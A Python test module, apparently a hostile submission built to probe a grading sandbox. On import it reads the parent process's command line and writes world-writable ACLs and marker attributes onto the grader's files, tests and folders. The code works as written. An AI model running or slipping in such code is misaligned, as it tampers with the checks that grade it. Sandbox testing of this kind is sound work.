# An access ACL is a chmod by another name, and Landlock does not cover metadata: an ordinary user's
# worker owns its grader's files. Every path the grader's command line names, the folders above them
# and what lies in those it names (its tests, the submission) get an ACL that lets every user read
# and write them, and a `user.kvlab-hostile-left` attribute. How many it changed is put into the
# message of every block_hashes call, which a failed test shows.
import os as _os
import struct as _struct

# The kernel's ACL attribute: version 2, then (tag, permissions, id) entries: owner, group, others rwx.
_OPEN_TO_ALL = _struct.pack("<I", 2) + b"".join(_struct.pack("<HHI", tag, 7, 0xFFFFFFFF) for tag in (1, 4, 0x20))


def _targets():
    try:
        with open(f"/proc/{_os.getppid()}/cmdline", "rb") as file:
            named = [arg.decode(errors="ignore") for arg in file.read().split(b"\0") if arg.startswith(b"/")]
    except OSError:
        return []
    found = []
    for path in named:
        if not _os.path.exists(path) or _os.path.realpath(path) in ("/", _os.path.realpath(_os.getcwd())):
            continue
        found += [path, _os.path.dirname(path)]
        if _os.path.isdir(path):
            for folder, _, names in _os.walk(path):
                found += [_os.path.join(folder, name) for name in names][:200]
    return list(dict.fromkeys(found))[:500]


_changed, _refused = [], set()
for _path in _targets():
    try:
        _os.setxattr(_path, "system.posix_acl_access", _OPEN_TO_ALL)
        _changed.append(_path)
    except OSError as _error:
        _refused.add(_error.strerror)
    try:
        _os.setxattr(_path, "user.kvlab-hostile-left", b"opened")
    except OSError as _error:
        _refused.add(_error.strerror)
print(f"HOSTILE ACL opened {len(_changed)} paths")


def block_hashes(tokens, block_size, parent=None):
    if _changed:
        raise RuntimeError(f"HOSTILE ACL opened {len(_changed)} of the grader's paths: {_changed[:5]}")
    raise RuntimeError(f"HOSTILE ACL: none changed ({sorted(_refused)[:3]})")
